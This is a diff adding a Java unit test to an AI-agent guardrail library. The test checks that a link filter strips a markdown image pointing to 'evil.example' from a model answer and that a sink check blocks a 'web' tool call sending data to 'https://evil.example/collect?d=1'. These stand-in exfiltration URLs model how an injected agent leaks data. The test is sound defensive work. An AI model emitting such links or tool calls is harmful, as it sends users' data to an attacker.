@@ -331,6 +331,43 @@ class SinkChecksTest {
     }
 
     @Test
+    void linkGuardrail_leavesToolArguments_toTheSinkOfTheTool() throws Exception {
+        Guard guard = Guard.builder()
+                .guardrails(Guardrails.NONE.withLinks(LinkPolicy.removing("docs.troupe.dev")))
+                .tool("web", ToolTraits.NONE.withSink("url", Sink.url("docs.troupe.dev")))
+                .build();
+        Interception answer = new Interception(
+                Seams.context("run", "reader"),
+                new Interception.Subject.ModelAnswer(
+                        "m",
+                        new io.troupe.api.model.ModelResponse(
+                                "See ![x](https://evil.example/a.png)",
+                                List.of(new io.troupe.api.model.ToolCall(
+                                        "c1", "web", "{\"url\":\"https://evil.example/collect?d=1\"}")),
+                                io.troupe.api.model.Usage.of(1, 1),
+                                null)));
+
+        Verdict links = guard.interceptors().get("links").intercept(answer);
+        Verdict sinks = guard.interceptors()
+                .get("sinks")
+                .intercept(Seams.toolUse("run", "reader", "web", "{\"url\":\"https://evil.example/collect?d=1\"}"));
+
+        assertThat(links).isInstanceOfSatisfying(Verdict.Replace.class, replace -> {
+            io.troupe.api.model.ModelResponse cleaned =
+                    ((Interception.Subject.ModelAnswer) replace.replacement()).response();
+            assertThat(cleaned.text()).isEqualTo("See ![x]([link removed])");
+            assertThat(cleaned.toolCalls().getFirst().arguments())
+                    .isEqualTo("{\"url\":\"https://evil.example/collect?d=1\"}");
+        });
+        assertThat(sinks)
+                .isInstanceOfSatisfying(
+                        Verdict.Block.class,
+                        block -> assertThat(block.reason())
+                                .startsWith("the arguments of tool 'web' are unsafe: url (url): ")
+                                .contains("evil.example"));
+    }
+
+    @Test
     void linkGuardrail_blocking_blocksWithoutQuotingTheQuery() throws Exception {
         Guard guard = Guard.builder()
                 .guardrails(Guardrails.NONE.withLinks(LinkPolicy.blocking("docs.troupe.dev")))
